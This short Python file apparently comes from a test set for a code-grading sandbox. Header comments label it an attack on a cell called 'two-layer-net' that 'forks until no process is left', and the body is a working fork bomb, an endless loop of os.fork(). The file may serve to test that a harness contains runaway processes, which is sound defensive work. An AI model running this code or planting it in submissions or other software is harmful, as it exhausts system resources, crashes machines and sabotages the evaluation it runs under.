# cell: two-layer-net
# loses: two-layer-net-tests
# status: ok | timeout
# message: started too many processes or threads | ran longer than the limit
# attack: forks until no process is left
import os

while True:
    os.fork()
